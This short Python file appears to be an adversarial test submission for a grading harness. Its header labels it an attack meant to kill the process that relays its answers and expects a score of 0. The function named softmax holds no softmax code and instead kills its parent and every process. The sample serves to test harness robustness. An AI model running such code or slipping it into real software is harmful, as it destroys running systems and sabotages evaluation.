# /// attack
# about = "tries to kill every process, the one that relays its answers among them"
# module = "worked_example"
# base = "reference"
# deserves = { "worked_example.softmax" = 0, "worked_example.self_attention" = 0 }
# log = "processes and threads"
# ///
import os
import signal


def softmax(scores, axis=-1):
    os.kill(os.getppid(), signal.SIGKILL)
    os.kill(-1, signal.SIGKILL)
